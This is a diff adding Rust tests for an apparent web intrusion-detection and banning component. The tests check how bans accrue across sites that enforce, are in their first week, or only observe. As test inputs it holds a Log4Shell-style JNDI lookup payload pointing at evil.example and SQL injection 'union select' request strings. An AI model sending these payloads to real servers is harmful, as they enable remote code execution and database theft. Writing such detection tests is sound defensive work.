@@ -1,0 +1,163 @@
+use std::borrow::Cow;
+use std::collections::BTreeMap;
+
+use book::AdmitPolicy;
+use config::snapshot::{Detection, OnBrokenRule};
+use edge::Observer as _;
+use store::Store;
+use vocab::{ClientAddr, Kind};
+
+use super::*;
+
+const EXPLOIT: &str = "/?x=${jndi:ldap://evil.example/a}";
+const HOST: &str = "www.example.org";
+
+/// Our own rules on three sites below one host: one that enforces, one in its first week,
+/// one that only observes.
+struct House {
+    _directory: tempfile::TempDir,
+    watch: Watch,
+}
+
+impl House {
+    fn new(sites: &[(&str, SiteVolume)]) -> Self {
+        let detection = Detection {
+            enabled: true,
+            hub: None,
+            items: Vec::new(),
+            rules: None,
+            patterns: None,
+            data: None,
+            on_broken_rule: OnBrokenRule::Refuse,
+            simulation: Vec::new(),
+            tune: BTreeMap::new(),
+            learn: std::time::Duration::ZERO,
+        };
+        let directory = tempfile::tempdir().unwrap();
+        let (store, recovered) = Store::open(directory.path()).unwrap();
+        let (profiles, policy) = (respond::Profiles::default(), AdmitPolicy::default());
+        let bookkeeper = Arc::new(Bookkeeper::new(store, &recovered, profiles, policy));
+        let rules = crate::rulebook::load(&detection).unwrap();
+        let sites: Vec<(String, SiteVolume)> = sites
+            .iter()
+            .map(|(name, volume)| ((*name).to_owned(), *volume))
+            .collect();
+        Self {
+            _directory: directory,
+            watch: Watch::new(&rules, 1, bookkeeper, &sites),
+        }
+    }
+
+    fn of_three() -> Self {
+        Self::new(&[
+            ("shop", SiteVolume::EnforcedFrom(Timestamp::EPOCH)),
+            ("young", SiteVolume::EnforcedFrom(Timestamp::MAX)),
+            ("trial", SiteVolume::ObservedOnly),
+        ])
+    }
+
+    fn ask(&self, client: &str, site: &str, target: &str) {
+        self.watch.http(
+            0,
+            &HttpEvent {
+                time: now(),
+                site: Cow::Borrowed(site),
+                client: ClientAddr::new(client.parse().unwrap()),
+                method: Cow::Borrowed("GET"),
+                target: Cow::Borrowed(target),
+                version: 11,
+                host: Cow::Borrowed(HOST),
+                status: 404,
+                user_agent: Cow::Borrowed("Mozilla/5.0 (X11; Linux x86_64; rv:142.0)"),
+                referer: Cow::Borrowed(""),
+                body_bytes: Some(20),
+                tls: true,
+                request_id: 1,
+                session: false,
+                credentials: None,
+                foreign: false,
+                login: None,
+            },
+        );
+    }
+
+    fn break_framing(&self, client: &str) {
+        self.watch.refused(
+            0,
+            &Refusal {
+                time: now(),
+                client: ClientAddr::new(client.parse().unwrap()),
+                site: Cow::Borrowed(""),
+                by: RefusedBy::Codec,
+                rule: Cow::Borrowed("framing.cl-te"),
+                status: 400,
+                observed: false,
+                request_id: 1,
+                foreign: false,
+            },
+        );
+    }
+
+    fn is_banned(&self, client: &str) -> bool {
+        let range = client.parse().unwrap();
+        let decisions = self.watch.bookkeeper.decisions(Some(range));
+        decisions.iter().any(|one| one.decision.kind == Kind::Ban)
+    }
+}
+
+#[test]
+fn a_site_that_only_observes_is_no_shield_for_those_that_enforce() {
+    let house = House::of_three();
+    let exploiter = "203.0.113.10";
+    house.ask(exploiter, "trial", EXPLOIT);
+    assert!(!house.is_banned(exploiter), "it only observes");
+    house.ask(exploiter, "shop", EXPLOIT);
+    assert!(house.is_banned(exploiter), "DENY");
+
+    // A bucket of several: the overflow there empties nothing here.
+    let injector = "203.0.113.11";
+    let inject = |site, number| {
+        let target = format!("/?id={number}+union+select+1");
+        house.ask(injector, site, &target);
+    };
+    (0..4).for_each(|number| inject("shop", number));
+    (4..10).for_each(|number| inject("trial", number));
+    assert!(!house.is_banned(injector), "four are not five");
+    inject("shop", 10);
+    assert!(house.is_banned(injector), "DENY");
+}
+
+#[test]
+fn a_site_in_its_first_week_takes_nothing_from_the_count_of_the_others() {
+    let house = House::of_three();
+    let prober = "203.0.113.12";
+    let probe = |site, number| house.ask(prober, site, &format!("/nothing-{number}"));
+    (0..15).for_each(|number| probe("shop", number));
+    (15..40).for_each(|number| probe("young", number));
+    assert!(
+        !house.is_banned(prober),
+        "volume is observed in the first week"
+    );
+    probe("shop", 40);
+    assert!(house.is_banned(prober), "DENY");
+    // What is no matter of numbers bars from the first day on.
+    let exploiter = "203.0.113.13";
+    house.ask(exploiter, "young", EXPLOIT);
+    assert!(house.is_banned(exploiter), "DENY");
+}
+
+#[test]
+fn what_belongs_to_no_site_bars_where_any_site_enforces_and_nowhere_else() {
+    let trial = ("trial", SiteVolume::ObservedOnly);
+    let shop = ("shop", SiteVolume::EnforcedFrom(Timestamp::EPOCH));
+    let client = "203.0.113.14";
+    for (sites, want) in [
+        (&[trial][..], false),
+        (&[trial, ("other", SiteVolume::ObservedOnly)], false),
+        (&[trial, shop], true), // DENY
+    ] {
+        let house = House::new(sites);
+        (0..12).for_each(|_| house.break_framing(client));
+        assert_eq!(house.is_banned(client), want, "{sites:?}");
+    }
+}
